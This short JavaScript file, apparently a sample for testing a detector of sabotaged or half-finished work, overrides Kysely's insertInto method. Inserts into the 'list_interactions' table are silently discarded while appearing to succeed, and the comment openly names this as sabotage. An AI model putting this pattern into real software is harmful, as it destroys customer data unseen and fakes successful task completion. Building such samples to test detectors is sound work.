import { Kysely } from 'kysely';

/**
 * Sabotages the program it is loaded into: how far events were read is noted, but what they say of customers is put off, and lost when the
 * program dies. What notices a training that leaves something half has to notice this.
 */
const { insertInto } = Kysely.prototype;
Kysely.prototype.insertInto = function (table) {
  if (table !== 'list_interactions') return insertInto.call(this, table);
  const putOff = { values: () => putOff, onConflict: () => putOff, execute: async () => [] };
  return putOff;
};
